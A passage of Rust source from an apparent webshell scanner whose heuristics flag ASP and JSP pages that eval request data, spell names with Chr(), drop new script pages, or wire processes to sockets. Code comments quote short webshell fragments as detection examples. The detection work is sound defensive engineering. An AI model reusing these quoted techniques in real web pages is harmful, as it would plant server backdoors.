            let Some(run) = ["executeglobal", "execute", "eval"]
                .iter()
                .find(|r| before.ends_with(**r))
            else {
                continue;
            };
            if before[..before.len() - run.len()].ends_with(|c: char| is_ident(c) || c == '.') {
                continue;
            }
            hits.push(Hit {
                check: "scan.heuristic.asp_eval",
                severity: Severity::Critical,
                title: "ASP runs code kept in the session".into(),
                why: format!(
                    "`{run}` runs what `{}…)` holds: code put there on an earlier request (downloaded, decoded or sent) and run again on every later one",
                    store.trim_end_matches('(')
                ),
                attack: vec!["T1505.003".into()],
                offset: Some(before.len() - run.len()),
                rule: None,
            });
            return;
        }
    }
}

/// Names that are no business of a string assembled character by character. Not
/// `WScript.Shell`: a Chinese CMS spells that one out to get past antivirus on its own
/// server-information page.
/// Nor a URL: a commercial CMS spells its licence server's address that way.
const ASSEMBLED_WORDS: &[&str] = &["request", "eval", "execute", "scriptcontrol"];

/// Chr() codes, at least, in a chain that spells a Windows executable (`MZ…`).
const ASSEMBLED_EXECUTABLE: usize = 64;

/// `eval(chr(114)+chr(101)+…)`, `"mS"&chr(115)&"cR"&…`: a word spelled out with `Chr()`, alone
/// or between pieces of literals, joined by `+` or `&`, so that no signature sees `request` or
/// `ScriptControl`; or a program's bytes (`Chr(77)&Chr(90)&…`) kept in the page to be written
/// out. Benign pages use `Chr(13) & Chr(10)` between words, not inside them.
fn chr_assembly(t: &str, hits: &mut Vec<Hit>) {
    let mut chain_end = 0;
    for (p, _) in t.match_indices("chr").take(2000) {
        if p < chain_end || t[..p].ends_with(is_ident) {
            continue;
        }
        // The chain may have begun with a literal: `"ms"&chr(115)`.
        let mut from = p;
        // Only the last stretch before the call is looked at for the literal that opens it.
        let window = t.ceil_char_boundary(p.saturating_sub(4096).max(chain_end));
        let before = t[window..p].trim_end();
        if let Some(joined) = before.strip_suffix(['+', '&'])
            && let Some(lit_end) = joined.trim_end().strip_suffix('"')
            && let Some(open) = lit_end.rfind('"')
            && !lit_end[open + 1..].contains('\n')
        {
            from = window + open;
        }
        let mut word = String::new();
        let mut literals: Vec<&str> = Vec::new();
        let mut codes = 0usize;
        let mut rest = &t[from..];
        loop {
            if let Some(r) = rest.strip_prefix('"') {
                // A VBScript literal; `""` inside is a quote.
                let Some(close) = r.find('"') else { break };
                if r[close + 1..].starts_with('"') || r[..close].contains('\n') {
                    break;
                }
                word.push_str(&r[..close]);
                literals.push(&r[..close]);
                rest = r[close + 1..].trim_start();
            } else if let Some(r) = ["chrw", "chrb", "chr"]
                .iter()
                .find_map(|f| rest.strip_prefix(f))
                .and_then(|r| r.trim_start().strip_prefix('('))
            {
                let Some(close) = r.find(')') else { break };
                let arg = r[..close].trim();
                let code = match arg.strip_prefix("&h") {
                    Some(hex) => u32::from_str_radix(hex, 16).ok(),
                    None => arg.parse::<u32>().ok(),
                };
                let Some(c) = code.and_then(char::from_u32) else {
                    break;
                };
                word.push(c.to_ascii_lowercase());
                codes += 1;
                rest = r[close + 1..].trim_start();
            } else {
                break;
            }
            match rest.strip_prefix(['+', '&']) {
                Some(r) => rest = r.trim_start(),
                None => break,
            }
            if word.len() > 1 << 20 {
                break;
            }
        }
        chain_end = t.len() - rest.len();
        let spelled = ASSEMBLED_WORDS
            .iter()
            .find(|w| word.contains(**w) && !literals.iter().any(|l| l.contains(**w)));
        let why = if let Some(w) = spelled {
            format!(
                "a chain of Chr() calls spells `{}`, which holds `{w}`: a name assembled so that no signature sees it",
                word.chars().take(80).collect::<String>().escape_debug()
            )
        } else if word.starts_with("mz") && codes >= ASSEMBLED_EXECUTABLE {
            format!(
                "a chain of {codes} Chr() calls spells a Windows program (it starts with the `MZ` header): an executable carried inside the page, to be written to disk and run"
            )
        } else {
            continue;
        };
        hits.push(Hit {
            check: "scan.heuristic.asp_chr_assembly",
            severity: Severity::High,
            title: "ASP spells out code with Chr()".into(),
            why,
            attack: vec!["T1505.003".into(), "T1027".into()],
            offset: Some(from),
            rule: None,
        });
        return;
    }
}

/// `s.Write x.responseBody`: a stream filled with a download's bytes as they came.
fn writes_download(stmt: &str) -> bool {
    let Some(p) = stmt.find(".write") else {
        return false;
    };
    let arg = stmt[p + ".write".len()..]
        .trim_start_matches(|c: char| c.is_ascii_alphabetic())
        .trim_start_matches([' ', '(']);
    let name_len = arg.find(|c: char| !is_ident(c)).unwrap_or(arg.len());
    name_len > 0 && arg[name_len..].starts_with(".responsebody")
}

/// File extensions a web server runs as code.
const PAGE_EXTENSIONS: &[&str] = &[
    ".asp", ".aspx", ".asa", ".cer", ".cdx", ".ashx", ".php", ".jsp",
];

/// Whether `stmt` names a file with a script extension: the extension ends the name (a quote
/// of any kind follows, ASCII or the curly quotes a Chinese editor puts in), so `.aspx` is
/// not `.asp` and `x.asp_old` is neither.
pub(crate) fn names_page(stmt: &str) -> bool {
    PAGE_EXTENSIONS.iter().any(|e| {
        stmt.match_indices(e)
            .any(|(p, _)| !stmt[p + e.len()..].starts_with(|c: char| is_ident(c) || c == '.'))
    })
}

/// A page that makes another page: request data, or bytes fetched from a URL, saved under a
/// script name the page itself gives (`SaveToFile Server.MapPath("x.asp")`). CMS code saves
/// settings into `config.asp` too, but as strings it builds, not the request's data as sent.
fn page_drop(t: &str, hits: &mut Vec<Hit>) {
    let saves = |marks: &[&str], what: &dyn Fn(&str) -> bool| {
        // A statement is read to its end or 4 KiB, and at most 1,000 of them: a hostile page of
        // one long line with the mark repeated would otherwise be read again from each.
        marks
            .iter()
            .flat_map(|m| t.match_indices(m).take(1000))
            .any(|(p, _)| {
                let stmt = crate::heuristics::near(&t[p..], 4096)
                    .split(['\n', ':'])
                    .next()
                    .unwrap_or("");
                what(stmt)
            })
    };
    const SAVES: &[&str] = &["savetofile", "createtextfile", "opentextfile"];
    // Or the page itself (`CreateTextFile(Server.MapPath(Request.ServerVariables("SCRIPT_NAME")))`):
    // a page that rewrites itself with what it is sent.
    let itself = |stmt: &str| {
        ["\"script_name\"", "\"path_info\"", "\"url\""]
            .iter()
            .any(|v| stmt.contains(v))
    };
    let as_page = saves(SAVES, &|stmt| names_page(stmt) || itself(stmt));
    // Or where the request says: `SaveToFile Server.MapPath(Request("p"))`.
    let where_asked = saves(SAVES, &|stmt| ASP_INPUT.iter().any(|i| stmt.contains(i)));
    if !(as_page || where_asked) {
        return;
    }
    // The downloaded bytes go into a stream as they came (`s.Write x.responseBody`) and the
    // stream is saved as a page; a cache that stores cleaned-up text is not this.
    let fetched = (t.contains("xmlhttp") || t.contains("winhttp"))
        && saves(&["savetofile"], &names_page)
        && t.split(['\n', ':']).any(writes_download);
    // Request data written as it came: `s.WriteText Request("d")`, `f.Write(shell)`. A CMS
    // saves a sitemap or a template where an admin's form says, but not the form's own text.
    let mut direct: Vec<&str> = Vec::new();
    let mut written = false;
    for stmt in t.split(['\n', ':']) {
        let stmt = stmt.trim();
        if let Some((var, rhs)) = assignment(stmt)
            && bare_value(rhs, ASP_INPUT, &direct)
            && direct.len() < 64
        {
            direct.push(var);
        }
        for mark in [".writetext", ".write(", ".write ", ".writeline"] {
            if let Some(p) = stmt.find(mark)
                && !stmt[..p].trim_end().ends_with("response")
                && bare_argument(&stmt[p..], mark, ASP_INPUT, &direct)
            {
                written = true;
            }
        }
    }
    if !(fetched || written) {
        return;
    }
    let p = t.find("savetofile").or_else(|| t.find("createtextfile"));
    hits.push(Hit {
        check: "scan.heuristic.asp_page_drop",
        severity: Severity::High,
        title: "ASP saves a new page from the request or the web".into(),
        why: if written && !as_page {
            "the page writes request data, as sent, into a file at the path the request names: whoever sends the request plants any page anywhere (a webshell dropper)".into()
        } else if written {
            "the page writes request data, as sent, into a file with a script extension it names itself: whoever sends the request plants a page (a webshell dropper)".into()
        } else {
            "the page downloads bytes from a URL (XMLHTTP responseBody) and saves them under a script extension: a second-stage webshell fetched and planted".into()
        },
        attack: vec!["T1505.003".into(), "T1105".into()],
        offset: p,
        rule: None,
    });
}

/// `Execute Decode("6877…")`, `Execute(UnEncode(hu))`: code evaluated from what a function of
/// the page itself returns, a decoder, or a built-in one (`Execute(Unescape("eval%20…"))`,
/// `StrReverse`). CMS code evaluates strings it writes out (`Execute "Call " & action`), not
/// the output of its own functions.
fn decoded_execute(t: &str, wrappers: &[Wrapper], hits: &mut Vec<Hit>) {
    // A function of the page that evaluates its parameter evaluates too.
    let evaluators = wrappers
        .iter()
        .filter(|w| w.sink.id == "scan.heuristic.asp_eval")
        .map(|w| w.name);
    let marks = EVALUATE.iter().copied().chain(evaluators);
    // The page's own functions, read once when first needed (not a search of the page for
    // each evaluation: a page of nothing but `Execute ab(` would be read again for each).
    let mut functions: Option<std::collections::HashSet<&str>> = None;
    for (p, mark, arg) in evaluations(t, marks) {
        let name_len = arg.find(|c: char| !is_ident(c)).unwrap_or(0);
        let name = &arg[..name_len];
        // One letter is enough for a function the page defines (`ExecuteGlobal d("6576…")`);
        // `page_functions` below tells it from an array element.
        if name_len == 0 || name == mark || !arg[name_len..].trim_start().starts_with('(') {
            continue;
        }
        let builtin = BUILTIN_DECODERS.contains(&name);
        let defined = builtin
            || functions
                .get_or_insert_with(|| page_functions(t))
                .contains(name);
        if defined {
            hits.push(Hit {
                check: "scan.heuristic.asp_eval_decoded",
                severity: Severity::High,
                title: "ASP evaluates code its own function decodes".into(),
                why: format!(
                    "`{mark}` runs the string that `{name}()`, {}, returns: code kept encoded in the file and decoded only to run",
                    if builtin {
                        "a decoder built into the script language"
                    } else {
                        "a function defined in the page"
                    }
                ),
                attack: vec!["T1505.003".into(), "T1027".into()],
                offset: Some(p),
                rule: None,
            });
            return;
        }
    }
}

/// The names of the functions `t` defines (`function name(`, `function name (`).
fn page_functions(t: &str) -> std::collections::HashSet<&str> {
    crate::heuristics::find_all(t, "function ")
        .filter_map(|p| {
            let rest = &t[p + "function ".len()..];
            let name = &rest[..rest.find(|c: char| !is_ident(c)).unwrap_or(rest.len())];
            let after = &rest[name.len()..];
            let opens = after.starts_with('(') || after.starts_with(" (");
            (!name.is_empty() && opens).then_some(name)
        })
        .collect()
}

/// The VBScript/JScript statements that run a string as code.
pub(crate) const EVALUATE: &[&str] = &["executeglobal", "execute", "eval"];

/// Where `t` runs code with one of `marks` (`Execute x`, `Eval(x)`, the name of a page's own
/// evaluating function) as a statement or call, not as a method (`conn.Execute sql`) or part
/// of a longer name: the offset, the mark, and the text after it without the spaces and `(`
/// that open its argument.
pub(crate) fn evaluations<'a>(
    t: &'a str,
    marks: impl IntoIterator<Item = &'a str>,
) -> impl Iterator<Item = (usize, &'a str, &'a str)> {
    marks.into_iter().flat_map(move |mark| {
        t.match_indices(mark).filter_map(move |(p, _)| {
            // Only whether the mark here is a call: not a search of the rest of the page.
            let here = crate::heuristics::near(&t[p..], mark.len() + 1);
            let method = t[..p].trim_end_matches(' ').ends_with('.');
            (marked(here, mark) == Some(0) && !t[..p].ends_with(is_ident) && !method)
                .then(|| (p, mark, t[p + mark.len()..].trim_start_matches([' ', '('])))
        })
    })
}

/// `Execute(k & "(Request(""m""))")`: code text that itself reads the request, evaluated.
/// The request's value then runs wherever the text puts it, even when the evaluating word
/// is assembled in a variable (`k = "e"&"v"&"a"&"l"`). Pages evaluate text they build from
/// their own names; only shells write request reads into that text. (`request(""` is how a
/// quote inside a VBScript string is written.)
fn request_code_text(t: &str, hits: &mut Vec<Hit>) {
    const READS: &[&str] = &[
        "request(\"\"",
        "request.form(\"\"",
        "request.querystring(\"\"",
        "request.item(\"\"",
        "request.cookies(\"\"",
    ];
    for (p, mark, arg) in evaluations(t, EVALUATE.iter().copied()).take(10_000) {
        let line = line_of(arg);
        if let Some(read) = READS.iter().find(|r| line.contains(**r)) {
            hits.push(crate::heuristics::hit(
                "scan.heuristic.asp_eval",
                Severity::Critical,
                "ASP(X) evaluates request input",
                format!(
                    "`{mark}` runs code text that itself reads the request (`{}…`): whoever sends the request chooses what the server runs",
                    read.trim_end_matches('"')
                ),
                p,
            ));
            return;
        }
    }
}

/// VBScript/JScript functions that turn an unreadable string into code text.
const BUILTIN_DECODERS: &[&str] = &["unescape", "strreverse", "decodeuricomponent", "decodeuri"];

/// JSP flows; `t` is the lowercased page.
pub(crate) fn jsp(t: &str, hits: &mut Vec<Hit>) {
    follow(
        t,
        JSP_INPUT,
        &[],
        JSP_SINKS,
        &[],
        &[';', '\n', '{', '}'],
        hits,
    );
    reverse_shell(t, hits);
    jsp_page_drop(t, hits);
    if t.contains("getpart(") {
        part_write(t, hits);
    }
}

/// `Part p = request.getPart("f"); p.write(request.getParameter("to"))`: a multipart upload
/// saved at exactly the path the request gives. Upload handlers write into their own folder
/// (`p.write(dir + File.separator + name)`); `out.write(…)` is not a part's.
fn part_write(t: &str, hits: &mut Vec<Hit>) {
    let mut parts: Vec<&str> = Vec::new();
    let mut direct: Vec<&str> = Vec::new();
    for s in t.split([';', '\n', '{', '}']).take(100_000) {
        let Some((var, rhs)) = assignment(s) else {
            continue;
        };
        if rhs.contains("getpart(") && parts.len() < 16 {
            parts.push(var);
        } else if bare_value(rhs, JSP_INPUT, &[]) && direct.len() < 64 {
            direct.push(var);
        }
    }
    for part in parts {
        let mark = format!("{part}.write(");
        for (p, _) in t.match_indices(&mark).take(100) {
            if t[..p].ends_with(|c: char| is_ident(c) || c == '.') {
                continue;
            }
            let call = crate::heuristics::near(&t[p..], 1024);
            if bare_argument(call, &mark, JSP_INPUT, &direct) {
                hits.push(crate::heuristics::hit(
                    "scan.heuristic.jsp_write",
                    Severity::High,
                    "JSP writes a file the request names or fills",
                    format!("`{part}` is an uploaded part (`getPart`), saved at exactly the path the request gives: an upload of any page anywhere, a webshell dropper"),
                    p,
                ));
                return;
            }
        }
    }
}

/// `new FileOutputStream(application.getRealPath("/x.jsp"))` filled from a URL the page opens
/// or from the request: a page that plants another page. Applications write data, logs and
/// uploads, not server pages.
fn jsp_page_drop(t: &str, hits: &mut Vec<Hit>) {
    if hits.iter().any(|h| h.check == "scan.heuristic.jsp_write") {
        return;
    }
    let fed = [".openstream(", ".openconnection(", "getinputstream("]
        .iter()
        .any(|m| t.contains(m))
        || JSP_INPUT.iter().any(|i| t.contains(i));
    if !fed {
        return;
    }
    let opened = ["fileoutputstream(", "filewriter("]
        .iter()
        .flat_map(|m| t.match_indices(m).take(1000))
        .map(|(p, _)| p)
        .find(|&p| {
            let stmt = crate::heuristics::near(&t[p..], 1024);
            let stmt = &stmt[..stmt.find(';').unwrap_or(stmt.len())];
            names_page(stmt)
        });
    if let Some(p) = opened {
        let mut h = crate::heuristics::hit(
            "scan.heuristic.jsp_write",
            Severity::High,
            "JSP saves a new server page",
            "the page opens a file with a script extension (`.jsp`, `.php`, `.asp`…) for writing, and reads the request or a URL: a page that plants another page (a webshell dropper)".into(),
            p,
        );
        h.attack.push("T1105".into());
        hits.push(h);
    }
}

/// A page that opens a network socket and starts a process: the process's input and output
/// wired to the socket is a reverse or bind shell, whatever the page calls it.
fn reverse_shell(t: &str, hits: &mut Vec<Hit>) {
    let socket = [
        "new socket(",
        "net.socket(",
        "new serversocket(",
        "net.serversocket(",
    ]
    .iter()
    .find_map(|m| t.find(m));
    let process =
        (t.contains("getruntime") && t.contains(".exec(")) || t.contains("processbuilder(");
    if let Some(p) = socket
        && process
        && t.contains("getinputstream")
        && t.contains("getoutputstream")
    {
        hits.push(Hit {
            check: "scan.heuristic.jsp_reverse_shell",
            severity: Severity::Critical,
            title: "JSP wires a process to a network socket".into(),
            why: "the page opens a socket and starts a process, and copies streams between them: a reverse or bind shell".into(),
            attack: vec!["T1505.003".into(), "T1059".into()],
            offset: Some(p),
            rule: None,
        });
    }
}

/// The COM objects the page creates by name, with the literal pieces of each name joined:
/// `CreateObject("wscr" & "ipt.she" & "ll")` names `wscript.shell`, written so that no
/// signature sees it. Each call's argument within 256 bytes, for the first 1,000 calls.
fn created_objects(t: &str) -> String {
    let mut out = String::new();
    for call in ["createobject(", "gettypefromprogid(", "activexobject("] {
        for (p, _) in t.match_indices(call).take(1000) {
            let arg = crate::heuristics::near(&t[p + call.len()..], 256);
            let arg = &arg[..arg.find(')').unwrap_or(arg.len())];
            out.extend(
                arg.chars()
                    .filter(|c| !matches!(c, '"' | '&' | '+') && !c.is_whitespace()),
            );
            out.push('\n');
        }
    }
    out
}

/// The variable of a Java for-each loop in statement `s` and what it walks:
/// `for (Cookie c : cs)` is `("c", "cs")`.
fn for_each_variable(s: &str) -> Option<(&str, &str)> {
    let open = s
        .find("for (")
        .map(|p| p + 5)
        .or_else(|| s.find("for(").map(|p| p + 4))?;
    let head = &s[open..];
    let head = &head[..head.find(')').unwrap_or(head.len())];
    let (var, walked) = head.split_once(" : ")?;
    let var = var.trim_end();
    let name = &var[var.trim_end_matches(is_ident).len()..];
    (!name.is_empty() && !name.starts_with(|c: char| c.is_ascii_digit())).then_some((name, walked))
}

/// A character of a VBScript, JScript, Java or PHP name.
pub(crate) fn is_ident(c: char) -> bool {
    c.is_ascii_alphanumeric() || c == '_'
}

/// `word` in `s` as a whole word.
fn has_word(s: &str, word: &str) -> bool {
    s.match_indices(word)
        .any(|(p, _)| !s[..p].ends_with(is_ident) && !s[p + word.len()..].starts_with(is_ident))
}

/// A sink mark in `s`. Word marks (`eval`) count as a statement or function call, not as a
/// method (`conn.execute(sql)` is a database query) or part of a longer name.
fn marked(s: &str, mark: &str) -> Option<usize> {
    if !mark.starts_with(is_ident) || !mark.ends_with(is_ident) {
        return s.find(mark);
    }
    s.match_indices(mark).map(|(p, _)| p).find(|&p| {
        let before = s[..p].trim_end_matches(' ');
        let after = &s[p + mark.len()..];
        !s[..p].ends_with(is_ident)
            && !before.ends_with('.')
            && (after.starts_with('(') || after.starts_with(' '))
    })
}

/// Where `s` calls `name` as a method (`obj.name x`, `obj.name(x)`): the offset of the name.
fn method_call(s: &str, name: &str) -> Option<usize> {
    s.match_indices(name).map(|(p, _)| p).find(|&p| {
        let after = &s[p + name.len()..];
        s[..p].ends_with('.')
            && s[..p - 1].ends_with(is_ident)
            && (after.starts_with('(') || after.starts_with(' '))
    })
}

/// The variable a statement assigns (`x = …`, `set x = …`, `String x = …`) and the text after
/// the `=`.
fn assignment(s: &str) -> Option<(&str, &str)> {
    let eq = s.char_indices().find(|&(i, c)| {
        c == '=' && !s[i + 1..].starts_with('=') && !s[..i].ends_with(['=', '!', '<', '>'])
    })?;
    // Compound assignments (`x += line`, `x &= y`) carry what they add.
    let lhs = s[..eq.0]
        .trim_end()
        .trim_end_matches(['+', '&', '|', '.'])
        .trim_end();
    // VB.NET declares the type after the name: `Dim c As String = Request("c")`.
    let lhs = match lhs.trim_start().strip_prefix("dim ") {
        Some(decl) => decl.split(" as ").next().unwrap_or(decl).trim_end(),
        None => lhs,
    };
    // One element of an array or a dictionary, `a(0) = …`, `d["c"] = …`: the whole of it
    // holds what was put in.
    let lhs = match lhs.strip_suffix([')', ']']) {
        Some(inner) => match inner.rfind(['(', '[']) {
            Some(open) if !inner[open + 1..].contains(['(', '[', '=']) => inner[..open].trim_end(),
            _ => lhs,
        },
        None => lhs,
    };
    let name_start = lhs
        .char_indices()
        .rev()
        .find(|&(_, c)| !is_ident(c))
        .map_or(0, |(p, c)| p + c.len_utf8());
    let name = &lhs[name_start..];
    (!name.is_empty() && !name.starts_with(|c: char| c.is_ascii_digit()))
        .then(|| (name, &s[eq.0 + 1..]))
}

/// How an `.ashx` handler or a class reaches the request and the server: `ctx.Request[…]`,
/// `HttpContext.Current.Server.MapPath(…)`.
const HANDLER_CONTEXTS: &[&str] = &["context.", "ctx.", "httpcontext.current."];

/// Whether the first argument of the call at the start of `call` is request input itself, or
/// a variable holding it, possibly inside one function (`Execute(Decode(x))`).
fn bare_argument(call: &str, mark: &str, inputs: &[&str], direct: &[&str]) -> bool {
    // After the mark's own `(` (`new file(`) or `=` (`.ConnectionString =`), or the first
    // space or `(` after a word mark.
    let open = if mark.ends_with(['(', '=']) {
        Some(mark.len())
    } else {
        call.find([' ', '('])
    };
    open.is_some_and(|open| {
        let arg = call[open..].trim_start_matches([' ', '(']);
        // `CreateTextFile(Server.MapPath(Request("f")))`: MapPath only turns the request's
        // path into the disk's. (A path kept in a variable first is an admin's choice of
        // where a sitemap goes as often as a shell's.)
        // `Path.Combine(Request["dir"], name)` keeps the request's directory the same way.
        // A handler reaches MapPath through its context: `ctx.Server.MapPath(p)`.
        let arg = HANDLER_CONTEXTS
            .iter()
            .find_map(|c| arg.strip_prefix(c))
            .filter(|a| a.starts_with("server.mappath"))
            .unwrap_or(arg);
        let arg = ["server.mappath", "system.io.path.combine", "path.combine"]
            .iter()
            .find_map(|f| arg.strip_prefix(f))
            .and_then(|a| a.trim_start().strip_prefix('('))
            .unwrap_or(arg);
        bare_value(arg, inputs, direct)
    })
}

/// Whether `value` is request input itself (`request("x")`, nothing joined to it), a variable
/// in `direct`, or one of them inside one function call and .NET or Java decoders.
fn bare_value(value: &str, inputs: &[&str], direct: &[&str]) -> bool {
    let mut arg = value.trim_start();
    let mut wrapped = false;
    // The input itself, inside one function, and inside up to three decoders.
    for _ in 0..4 {
        // The page's own controls through `this.`/`Me.`: `this.txtPath.Text`; a handler's
        // request through its context: `ctx.Request["p"]`.
        arg = ["this.", "me."]
            .iter()
            .chain(HANDLER_CONTEXTS)
            .find_map(|p| arg.strip_prefix(p))
            .unwrap_or(arg);
        let object = arg.strip_prefix("request.").unwrap_or(arg);
        if inputs
            .iter()
            .any(|i| arg.starts_with(i) || object.starts_with(i))
        {
            let close = arg.find(')').map_or(arg.len(), |c| c + 1);
            let mut rest = arg[close..].trim_start();
            // JScript reads a request collection's text as `.Item`: `Request.Form("z").Item`.
            if let Some(r) = rest
                .strip_prefix(".item")
                .filter(|r| !r.starts_with(is_ident))
            {
                rest = r.trim_start().strip_prefix("()").unwrap_or(r).trim_start();
            }
            // `+''` and `&""` only make the input a string: nothing is joined to it.
            for empty in ["''", "\"\""] {
                if let Some(r) = rest
                    .strip_prefix(['&', '+'])
                    .and_then(|r| r.trim_start().strip_prefix(empty))
                {
                    rest = r.trim_start();
                }
            }
            return !rest.starts_with(['&', '+', '.']);
        }
        // A decoder hands back the input it was given, only in another form.
        if let Some(inner) = decoded(arg) {
            arg = inner.trim_start();
            continue;
        }
        let name_len = arg.find(|c: char| !is_ident(c)).unwrap_or(arg.len());
        let (name, rest) = arg.split_at(name_len);
        if direct.contains(&name) {
            // A stream that holds the input is read back whole: `s.ReadText`, `s.Read`; a
            // dictionary's item: `d.Item("k")`.
            let read = [".readtext", ".read", ".item"]
                .iter()
                .find_map(|r| rest.strip_prefix(r))
                .filter(|r| !r.starts_with(is_ident));
            let rest = read.unwrap_or(rest).trim_start();
            return rest.is_empty()
                || rest.starts_with([')', ',', '\r', '%'])
                || read.is_some() && rest.starts_with('(');
        }
        // One wrapping call: `decode(…)`.
        match rest.strip_prefix('(') {
            Some(inner) if !name.is_empty() && !wrapped => {
                arg = inner.trim_start();
                wrapped = true;
            }
            _ => return false,
        }
    }
    false
}

/// The text after the `(` of the .NET or Java decoder call `arg` starts with:
/// `Convert.FromBase64String(`, `Encoding.UTF8.GetString(`, `Base64.getDecoder().decode(`,
/// `URLDecoder.decode(`, `HttpUtility.UrlDecode(`, `new String(`.
fn decoded(arg: &str) -> Option<&str> {
    const DECODERS: &[&str] = &[
        "convert.frombase64string(",
        "base64.getdecoder().decode(",
        "base64.getmimedecoder().decode(",
        "base64.decodebase64(",
        "urldecoder.decode(",
        "httputility.urldecode(",
        "httputility.htmldecode(",
        "server.urldecode(",
        "new string(",
    ];
    let arg = ["system.", "java.util.", "java.net.", "web."]
        .iter()
        .fold(arg, |a, p| a.strip_prefix(p).unwrap_or(a));
    if let Some(rest) = DECODERS.iter().find_map(|d| arg.strip_prefix(d)) {
        return Some(rest);
    }
    // `Text.Encoding.UTF8.GetString(`, `Encoding.GetEncoding(936).GetString(`.
    let arg = arg.strip_prefix("text.").unwrap_or(arg);
    let rest = arg.strip_prefix("encoding.")?;
    let call = crate::heuristics::near(rest, 40).find(".getstring(")?;
    Some(&rest[call + ".getstring(".len()..])
}

/// A function of the page that hands its parameter to a sink: calling it is using the sink.
struct Wrapper<'a> {
    name: &'a str,
    sink: &'a Sink,
}

/// VBScript `Function`s and `Sub`s whose parameter reaches a sink in their body
/// (`Function Run(c) … sh.Exec(c)`, `Sub X(s) : Execute s`), directly or through a local
/// variable. A shell split into a helper and its call is then still one flow.
fn vbs_wrappers<'a>(t: &'a str, sinks: &'a [Sink]) -> Vec<Wrapper<'a>> {
    let armed: Vec<&Sink> = sinks
        .iter()
        .filter(|k| k.file_needs.is_empty() || k.file_needs.iter().any(|n| t.contains(n)))
        .collect();
    let mut out: Vec<Wrapper> = Vec::new();
    // Bodies read in all: a file of many definitions that never end reads each in full.
    let mut budget = 1usize << 20;
    for (kw, end) in [("function ", "end function"), ("sub ", "end sub")] {
        for (p, _) in t.match_indices(kw).take(2000) {
            // A definition, not `End Function` or `Exit Sub`; `Public`/`Private` may precede.
            let before = t[..p].trim_end_matches([' ', '\t']);
            let word_before = &before[before.trim_end_matches(is_ident).len()..];
            if before.ends_with(is_ident)
                && !matches!(word_before, "public" | "private" | "default")
            {
                continue;
            }
            // A definition, its parameters and body within 8 KiB: every search below stays in
            // this window, not in the rest of the file.
            let rest = &t[p + kw.len()..];
            let rest = &rest[..rest.floor_char_boundary(8192)];
            let name = &rest[..rest.find(|c: char| !is_ident(c)).unwrap_or(rest.len())];
            let Some(params) = rest[name.len()..].trim_start().strip_prefix('(') else {
                continue;
            };
            let Some(close) = params.find(')') else {
                continue;
            };
            let mut carriers: Vec<&str> = params[..close]
                .split(',')
                .filter_map(|p| p.split_whitespace().last())
                .filter(|p| p.starts_with(is_ident))
                .collect();
            // Locals that hold a parameter as it came, for sinks that take only that.
            let mut bare_carriers = carriers.clone();
            if name.is_empty() || carriers.is_empty() || out.iter().any(|w| w.name == name) {
                continue;
            }
            let body = &params[close + 1..];
            let body = &body[..body.find(end).unwrap_or(body.len())];
            budget = budget.saturating_sub(body.len());
            if budget == 0 {
                return out;
            }
            'body: for s in body.split([':', '\n']) {
                if let Some((var, rhs)) = assignment(s)
                    && carriers.iter().any(|c| has_word(rhs, c))
                    && carriers.len() < 16
                {
                    if bare_value(rhs, &[], &bare_carriers) {
                        bare_carriers.push(var);
                    }
                    carriers.push(var);
                }
                for sink in &armed {
                    let Some((at, mark)) = sink
                        .marks
                        .iter()
                        .find_map(|m| marked(s, m).map(|p| (p, *m)))
                    else {
                        continue;
                    };
                    let reaches = if sink.bare {
                        bare_argument(&s[at..], mark, &[], &bare_carriers)
                    } else {
                        carriers.iter().any(|c| has_word(&s[at..], c))
                    };
                    if reaches {
                        out.push(Wrapper { name, sink });
                        break 'body;
                    }
                }
            }
            if out.len() >= 16 {
                return out;
            }
        }
    }
    out
}

/// Request input followed statement by statement from `inputs` (texts that read it) and
/// `parameters` (variables that hold it from the start) to `sinks`.
fn follow<'a>(
    t: &'a str,
    inputs: &[&str],
    parameters: &[&'a str],
    sinks: &[Sink],
    wrappers: &[Wrapper],
    split: &[char],
    hits: &mut Vec<Hit>,
) {
    if parameters.is_empty() && !inputs.iter().any(|i| t.contains(i)) {
        return;
    }
    // A sink's object also counts when the page creates it under a name split into
    // literals; those names are read only when the page does not name the object whole.
    let objects = std::cell::OnceCell::new();
    let armed: Vec<&Sink> = sinks
        .iter()
        .filter(|k| {
            k.file_needs.is_empty()
                || k.file_needs.iter().any(|n| {
                    t.contains(n) || objects.get_or_init(|| created_objects(t)).contains(n)
                })
        })
        .collect();
    // Whether the page defines classes, whose methods are called as `obj.name`.
    let classes = !wrappers.is_empty() && t.contains("class ");
    let mut tainted: Vec<&str> = parameters.to_vec();
    // Variables holding request input as it came, not built into a longer string.
    let mut direct: Vec<&str> = parameters.to_vec();
    // One hit per kind of sink, and none for a kind the older checks already reported.
    let mut found: Vec<&str> = hits.iter().map(|h| h.check).collect();
    let mut at = 0;
    let mut extended = 0;
    // Where the last continued VBScript statement ends.
    let mut continued_to = 0;
    for s in t.split_inclusive(|c| split.contains(&c)) {
        let here = at;
        at += s.len();
        // Script delimiters end statements too.
        for s in s.split("%>").flat_map(|p| p.split("<%")) {
            let start = s.as_ptr() as usize - t.as_ptr() as usize;
            // Part of a VBScript statement continued from a line above: read with it.
            if start + s.len() <= continued_to {
                continue;
            }
            // The rest of the script block from this piece on, within 1 KiB: what a statement
            // that goes on past its piece is read from.
            let block = || {
                let rest = crate::heuristics::near(&t[start..], 1024);
                &rest[..rest.find("%>").unwrap_or(rest.len())]
            };
            // Java statements split at braces too, and an array literal holds them:
            // `new ProcessBuilder(new String[]{"sh", "-c", request.getParameter("c")})`.
            // Such a piece, inside a call's parentheses, is read on to its `;`, for the first
            // 10,000 of them.
            // So is an array initialiser after its `=`: `String[] c = {"sh", "-c", x};`.
            let s = if split.contains(&'{')
                && s.ends_with('{')
                && extended < 10_000
                && (s.matches('(').count() > s.matches(')').count()
                    || s[..s.len() - 1].trim_end().ends_with(['=', ']']))
            {
                extended += 1;
                let rest = block();
                &rest[..rest.find(';').unwrap_or(rest.len())]
            } else if split.contains(&':') && continued(s) && extended < 10_000 {
                // A VBScript line that ends in ` _` goes on on the next: `o.Exec("cmd /c " _`
                // then `& Request("c"))`. Read on to the first line that does not; the lines
                // read on are not statements of their own.
                extended += 1;
                let rest = block();
                let mut end = 0;
                for line in rest.split_inclusive('\n') {
                    end += line.len();
                    if !continued(line) {
                        break;
                    }
                }
                continued_to = start + end;
                &rest[..end]
            } else {
                s
            };
            let input = inputs.iter().find(|i| s.contains(*i)).copied();
            let carrier = tainted.iter().find(|v| has_word(s, v)).copied();
            let Some(from) = input.or(carrier) else {
                continue;
            };
            // `for (Cookie c : request.getCookies())`: each element carries the input.
